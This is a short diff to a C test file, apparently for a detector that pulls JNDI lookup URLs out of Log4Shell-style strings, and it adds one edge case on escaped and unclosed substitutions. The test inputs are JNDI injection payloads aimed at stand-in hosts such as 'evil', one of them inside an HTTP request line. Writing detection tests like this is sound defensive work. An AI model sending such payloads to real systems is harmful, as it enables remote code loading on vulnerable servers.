@@ -121,6 +121,7 @@ static void substitution_corners(void **state) {
     /* ... even when that later "${" is never closed. */
     JNDI("$${jndi:ldap://evil/a}${", "ldap://evil/a");
     JNDI("GET /?q=$${jndi:ldap://evil/a}${ HTTP/1.1", "ldap://evil/a");
+    JNDI("${x}$$${jndi:ldap://x/a}${", "ldap://x/a");
     /* Two payloads, two lookups. */
     JNDI("${jndi:ldap://a/1} and ${jndi:rmi://b/2}", "ldap://a/1", "rmi://b/2");
     /* date: with an unquoted letter formats the current time: no 'j'. */
